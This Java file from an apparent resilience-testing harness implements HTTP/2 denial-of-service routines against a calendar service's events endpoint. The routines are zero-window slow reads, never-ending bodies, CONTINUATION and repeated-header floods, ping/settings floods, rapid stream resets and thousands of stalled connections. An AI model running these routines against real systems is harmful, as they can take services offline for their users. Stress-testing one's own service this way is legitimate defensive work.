package io.kalends.attack;

import static io.kalends.attack.Target.EVENTS;

import java.io.IOException;
import java.util.List;

/** Ways by HTTP/2, where one connection has many streams. */
final class Streams {
    private static final int MOST_STREAMS = 120;
    private static final int UNLIMITED = Integer.MAX_VALUE;
    private static final int MAX_CONCURRENT = 3;
    private static final int FRAME = 16_000;

    private Streams() {}

    static List<Way> ways() {
        return List.of(
                new Way(
                        "h2-replies",
                        "64 connections with 120 streams each that ask for lists and feeds and let no byte of them come",
                        Streams::replies),
                new Way(
                        "h2-bodies",
                        "64 connections with 120 bodies each by an author, byte by byte, that never end",
                        Streams::bodies),
                new Way(
                        "h2-heads",
                        "64 connections with heads that never end, and headers that are meant thousands of times",
                        Streams::heads),
                new Way(
                        "h2-frames",
                        "64 connections with nothing but pings, settings, and streams that are reset at once",
                        Streams::frames),
                new Way(
                        "h2-kept",
                        "4,000 connections of HTTP/2, begun or upgraded to, that ask for something small and then stay",
                        Streams::kept));
    }

    private static void replies(Front front) throws InterruptedException {
        front.crowd(64, (who, turn) -> {
            Frames frames = Frames.opening(Frames.INITIAL_WINDOW, 0);
            for (int i = 0; i < MOST_STREAMS; i++) frames.get(1 + 2 * i, path(who, i));
            hold(front, frames);
        });
    }

    private static String path(int who, int stream) {
        if (stream % 20 == 0) return EVENTS + ".ics?x=" + who;
        return EVENTS + "?per_page=50&page=" + (1 + stream % 60) + "&x=" + who + "-" + stream;
    }

    /** Sends this and reads nothing but what comes by itself, until the other side closes. */
    private static void hold(Front front, Frames frames) throws IOException {
        try (Line line = front.open()) {
            line.send(frames.bytes());
            line.awaitEnd(600_000);
            front.count("closed");
        }
    }

    private static void bodies(Front front) throws InterruptedException {
        front.crowd(64, (who, turn) -> {
            byte[] head = Frames.request(
                    "POST",
                    EVENTS,
                    "content-type",
                    Texts.JSON,
                    "authorization",
                    front.target().authorization());
            Frames frames = Frames.opening(Frames.INITIAL_WINDOW, UNLIMITED);
            for (int i = 0; i < MOST_STREAMS; i++) frames.add(Frames.HEADERS, Frames.END_HEADERS, 1 + 2 * i, head);
            try (Line line = front.open()) {
                line.send(frames.bytes());
                line.send(data().bytes());
                while (true) {
                    line.send(drops().bytes());
                    Thread.sleep(100);
                }
            }
        });
    }

    /** As much as fits into the window of a connection that nobody has enlarged. */
    private static Frames data() {
        var frames = new Frames();
        byte[] piece = Texts.filled("{\"title\":\"", 8_000);
        for (int i = 0; i < MOST_STREAMS; i++) frames.add(Frames.DATA, 0, 1 + 2 * i, piece);
        return frames;
    }

    private static Frames drops() {
        var frames = new Frames();
        for (int i = 0; i < MOST_STREAMS; i++) frames.add(Frames.DATA, 0, 1 + 2 * i, (byte) 'x');
        return frames;
    }

    private static void heads(Front front) throws InterruptedException {
        front.crowd(64, (who, turn) -> {
            if (who % 2 == 0) endless(front);
            else hold(front, repeated());
        });
    }

    private static void endless(Front front) throws IOException {
        try (Line line = front.open()) {
            line.send(Frames.opening(MAX_CONCURRENT, 100)
                    .add(Frames.HEADERS, Frames.END_STREAM, 1, Frames.request("GET", "/"))
                    .bytes());
            for (int i = 0; i < 1_000; i++)
                line.send(new Frames()
                        .add(Frames.CONTINUATION, 0, 1, Frames.header("x-" + i, Texts.word(FRAME)))
                        .bytes());
        }
    }

    private static Frames repeated() {
        Frames frames = Frames.opening(MAX_CONCURRENT, 100);
        for (int i = 0; i < MOST_STREAMS; i++)
            frames.add(
                    Frames.HEADERS,
                    Frames.END_STREAM | Frames.END_HEADERS,
                    1 + 2 * i,
                    Frames.repeated("/", 3_500, 12_000));
        return frames;
    }

    private static void frames(Front front) throws InterruptedException {
        front.crowd(64, (who, turn) -> {
            try (Line line = who % 2 == 0 ? front.open() : front.openNarrow()) {
                line.send(Frames.opening(MAX_CONCURRENT, 100).bytes());
                for (int i = 0; i < 10_000; i++) line.send(some(who, i).bytes());
            }
        });
    }

    private static Frames some(int who, int round) {
        var frames = new Frames();
        for (int i = 0; i < 50; i++) {
            int stream = 1 + 2 * (50 * round + i);
            if (who % 3 == 0) frames.ping();
            else if (who % 3 == 1) frames.settings(Frames.INITIAL_WINDOW, 1_000 + i);
            else
                frames.get(stream, EVENTS + "?per_page=50&x=" + who + "-" + stream)
                        .reset(stream);
        }
        return frames;
    }

    private static void kept(Front front) throws InterruptedException {
        String upgrade =
                Texts.get("/health", "Connection: Upgrade, HTTP2-Settings", "Upgrade: h2c", "HTTP2-Settings: ");
        byte[] opening = Frames.opening(MAX_CONCURRENT, 100).bytes();
        byte[] question = Frames.opening(MAX_CONCURRENT, 100).get(1, "/health").bytes();
        front.crowd(4_000, (who, turn) -> {
            if (who % 2 == 0) front.stall("", question);
            else front.stall(upgrade, opening);
        });
    }
}
